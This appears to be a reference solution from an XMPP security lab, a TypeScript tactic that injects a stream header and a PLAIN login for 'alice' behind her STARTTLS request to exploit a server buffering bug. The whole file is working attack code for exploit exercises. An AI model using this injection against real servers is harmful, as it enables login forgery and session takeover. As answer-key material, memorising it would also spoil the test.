// Reference solution for attack-starttls-injection: behind alice's <starttls/>, in the same
// write, a stream header and a PLAIN login for alice with a made-up password. A server with the
// buffering bug processes them once TLS is up, as if alice had sent them inside her session.
type Where = { dir: "c2s" | "s2c"; context: "cleartext" | "inside-tls"; stage: "pre-auth" | "post-auth" };

export default function tactic(el: any, where: Where, lab: any) {
  if (where.dir !== "c2s" || el.name !== "starttls" || el.attrs.xmlns !== lab.NS.tls) return;
  const header = "<stream:stream to='lab.example' version='1.0' xmlns='jabber:client' xmlns:stream='http://etherx.jabber.org/streams'>";
  const auth = lab.element("auth", { xmlns: lab.NS.sasl, mechanism: "PLAIN" }, Buffer.from("\0alice\0letmein").toString("base64"));
  return { el, append: header + auth.toString() };
}
